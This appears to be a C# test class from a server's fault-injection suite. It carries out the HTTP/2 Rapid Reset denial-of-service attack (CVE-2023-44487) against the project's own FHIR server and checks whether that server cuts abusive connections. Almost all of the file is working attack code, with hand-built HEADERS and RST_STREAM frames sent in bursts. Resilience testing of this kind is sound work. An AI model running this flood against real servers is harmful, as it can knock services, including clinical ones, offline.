using System.Buffers.Binary;
using System.Collections.Concurrent;
using System.Net.Security;
using System.Text;
using CpIs.Testing;

namespace CpIs.Faults.Attacks;

/// <summary>
/// HTTP/2 streams that ask for a child and are reset at once (CVE-2023-44487), as fast as one connection takes them.
/// Frames are written by hand: https://www.rfc-editor.org/rfc/rfc9113.html
/// </summary>
internal sealed class RapidReset(ServerStart server) : Attack(server)
{
    private const int StreamsPerWrite = 10;

    /// <summary>Streams after which a connection that still stands counts as not cut off.</summary>
    private const int StreamsMax = 20_000;

    private const int FrameHeadBytes = 9;
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;
    private const byte GoAwayFrame = 7;
    private const byte EndsStreamAndHeaders = 5;
    private const int Cancel = 8;

    /// <summary>ENHANCE_YOUR_CALM.</summary>
    private const int Calm = 0xb;

    private readonly ConcurrentBag<int> cutAfter = [];
    private int told;
    private int stood;

    public override string Words => Text($"{Attackers} connections at a time, {cutAfter.Count} cut off after ")
        + Text($"{cutAfter.DefaultIfEmpty(0).Average():0} streams on average, {told} told ENHANCE_YOUR_CALM");

    public override IEnumerable<string> Wrong => stood > 0 || cutAfter.IsEmpty
        ? [Text($"{stood} connections stood {StreamsMax} streams")] : [];

    protected override int Attackers => 4;

    /// <summary>Who was cut off comes back after a second.</summary>
    protected override TimeSpan Pause => TimeSpan.FromSeconds(1);

    protected override async Task TryAsync(CancellationToken end)
    {
        var headers = Headers((await Tokens.OfAsync(Http, Server.Address, "sandbox-ed-clinician"))
            .ToString());
        await using var stream = await ConnectAsync(SslApplicationProtocol.Http2, end);
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), end);
        await stream.WriteAsync(Frame(SettingsFrame, 0, 0, []), end);
        var closed = ReadAsync(stream, end);
        var opened = 0;
        try
        {
            while (!closed.IsCompleted && opened < StreamsMax)
            {
                using var burst = new MemoryStream();
                for (var i = 0; i < StreamsPerWrite; i++, opened++)
                {
                    burst.Write(Frame(HeadersFrame, EndsStreamAndHeaders, (2 * opened) + 1, headers));
                    burst.Write(Frame(ResetFrame, 0, (2 * opened) + 1, [0, 0, 0, Cancel]));
                }

                await stream.WriteAsync(burst.ToArray(), end);
            }
        }
        catch (IOException)
        {
            // The server closed while it was still told more.
        }

        await (opened >= StreamsMax ? Task.CompletedTask : closed);
        if (closed.IsCompleted)
        {
            cutAfter.Add(opened);
        }
        else
        {
            Interlocked.Increment(ref stood);
        }
    }

    /// <summary>
    /// Method, scheme, path and authority by HPACK's static table, then the token, none of them kept.
    /// </summary>
    private byte[] Headers(string token)
    {
        using var block = new MemoryStream();
        block.WriteByte(0x82);
        block.WriteByte(0x87);
        Literal(block, [0x04], "/FHIR/R4/Flag?patient=9990000018");
        Literal(block, [0x01], Server.Address.Authority);
        Literal(block, [0x0f, 0x08], token);
        return block.ToArray();
    }

    private static void Literal(MemoryStream block, byte[] name, string value)
    {
        const int SevenBits = 127;
        block.Write(name);
        var left = value.Length;
        block.WriteByte((byte)Math.Min(left, SevenBits));
        if (left >= SevenBits)
        {
            for (left -= SevenBits; left > SevenBits; left >>= 7)
            {
                block.WriteByte((byte)((left & SevenBits) | 0x80));
            }

            block.WriteByte((byte)left);
        }

        block.Write(Encoding.ASCII.GetBytes(value));
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[FrameHeadBytes + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, FrameHeadBytes);
        return frame;
    }

    /// <summary>Returns when the server closes, having noted whether it said why.</summary>
    private async Task ReadAsync(SslStream stream, CancellationToken end)
    {
        var head = new byte[FrameHeadBytes];
        try
        {
            while (await stream.ReadAtLeastAsync(head, FrameHeadBytes, throwOnEndOfStream: false,
                end) == FrameHeadBytes)
            {
                var payload = new byte[BinaryPrimitives.ReadInt32BigEndian(head) >> 8];
                await stream.ReadExactlyAsync(payload, end);
                if (head[3] == GoAwayFrame && BinaryPrimitives.ReadInt32BigEndian(payload.AsSpan(4)) == Calm)
                {
                    Interlocked.Increment(ref told);
                }
            }
        }
        catch (Exception over) when (over is IOException or OperationCanceledException or ObjectDisposedException)
        {
            // The line broke: that is an end as well.
            return;
        }
    }
}
